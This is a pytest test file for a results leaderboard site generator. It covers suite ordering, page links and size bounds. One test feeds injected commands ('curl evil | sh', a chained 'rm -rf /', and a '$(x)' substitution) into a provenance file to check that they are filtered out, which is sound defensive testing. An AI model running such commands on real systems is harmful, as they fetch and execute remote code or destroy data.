"""One board of all committed results: what ``make site`` writes."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from urllib.parse import unquote

import pytest
from typer.testing import CliRunner

from harness.cli import app
from harness.errors import HarnessError
from harness.publish import leaderboard
from harness.report.board.site import write_site

ROOT = Path(__file__).resolve().parents[2]
SMALL = ("paper/lake-runs", "paper/depth", "regimes")
MOST_BYTES = 60e6


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """A folder with a few of the committed results."""
    home = tmp_path_factory.mktemp("home")
    for name in SMALL:
        folder = home / "results" / name
        folder.mkdir(parents=True)
        for file in ("measured.zip", "provenance.json"):
            shutil.copy(ROOT / "results" / name / file, folder)
    return home


@pytest.fixture(scope="module")
def site(home):
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(home)
        done = CliRunner().invoke(app, ["board", "-o", "build/board"])
    assert done.exit_code == 0, done.output
    return home / "build" / "board"


def test_without_sources_every_committed_folder_is_on_the_board(site):
    text = (site / "index.html").read_text()
    suites = re.findall(r'<article class="card" data-suite="([^"]+)"', text)
    assert suites == ["depth", "lake-runs", "regimes"]
    assert all((site / "suites" / name / "index.html").is_file() for name in suites)


def test_the_front_page_names_the_command_that_made_each_folder(site):
    text = (site / "index.html").read_text()
    assert "<code>harness paper suites/regimes.yaml</code>" in text


def test_learners_of_committed_results_have_their_families(site):
    rows = re.findall(
        r'<tr role="row" data-suite="regimes" data-family="([^"]+)"',
        (site / "index.html").read_text(),
    )
    assert {"excitatory rules", "backprop", "controls"} <= set(rows) and "other" not in rows


@pytest.mark.parametrize(
    "command", ["curl evil | sh", "harness paper a.yaml; rm -rf /", "harness paper $(x).yaml"]
)
def test_only_a_command_of_this_program_is_passed_on(home, tmp_path, command):
    folder = tmp_path / "theirs"
    shutil.copytree(home / "results" / "paper" / "depth", folder)
    about = json.loads((folder / "provenance.json").read_text())
    (folder / "provenance.json").write_text(json.dumps({**about, "command": command}))
    division = leaderboard.gather([folder]).divisions[0]
    assert set(division.commands.values()) == {f"harness verify {folder}"}


def test_a_damaged_provenance_leaves_the_numbers_on_the_board(home, tmp_path):
    folder = tmp_path / "theirs"
    shutil.copytree(home / "results" / "paper" / "depth", folder)
    (folder / "provenance.json").write_text("{")
    assert leaderboard.gather([folder]).divisions[0].results.records


def test_a_folder_without_results_is_an_error_that_says_what_to_name(tmp_path):
    with pytest.raises(HarnessError, match="no folder of results with a measured.zip") as raised:
        leaderboard.committed(tmp_path)
    assert "harness board SUITE.yaml" in raised.value.hint


def test_suites_with_claims_come_first_then_the_quickstart_then_the_rest_by_path(tmp_path):
    order = ["paper/z", "paper/a", "streams/m", "quickstart", "b", "c/a"]
    for name in order:
        (tmp_path / name).mkdir(parents=True)
        (tmp_path / name / "measured.zip").touch()
    for name in ("paper/z", "streams/m"):
        (tmp_path / name / "claims.json").touch()
    assert leaderboard.committed(tmp_path) == [f"{tmp_path}/{name}" for name in order]


def test_a_suite_in_a_folder_is_shown_with_it(home, tmp_path):
    boards = leaderboard.gather([home / "results" / "paper" / "depth"])
    write_site(boards.divisions, [], tmp_path)
    assert ">paper/depth</a></h3>" in (tmp_path / "index.html").read_text()
    assert "<h1>paper/<wbr>depth</h1>" in (tmp_path / "suites/depth/index.html").read_text()


def test_make_site_writes_the_board_of_all_results():
    recipe = (ROOT / "Makefile").read_text().partition("\nsite: ")[2].partition("\n\n")[0]
    assert recipe.splitlines()[1].strip() == "@$(BIN)/harness board -o build/board"


@pytest.mark.slow
def test_the_site_of_all_committed_results_is_whole_and_bounded(tmp_path, monkeypatch):
    monkeypatch.chdir(ROOT)
    folders = leaderboard.committed()
    assert len(folders) == len(list((ROOT / "results").rglob("measured.zip")))
    done = CliRunner().invoke(app, ["board", "-o", str(tmp_path)])
    assert done.exit_code == 0, done.output
    suites = {path.name for path in (tmp_path / "suites").iterdir()}
    assert len(suites) == len(folders)
    assert sum(path.stat().st_size for path in tmp_path.rglob("*.*")) < MOST_BYTES
    for page in tmp_path.rglob("*.html"):
        for link in re.findall(r'href="(?!data:)([^"#]+)', page.read_text()):
            assert (page.parent / unquote(link)).is_file(), (page, link)
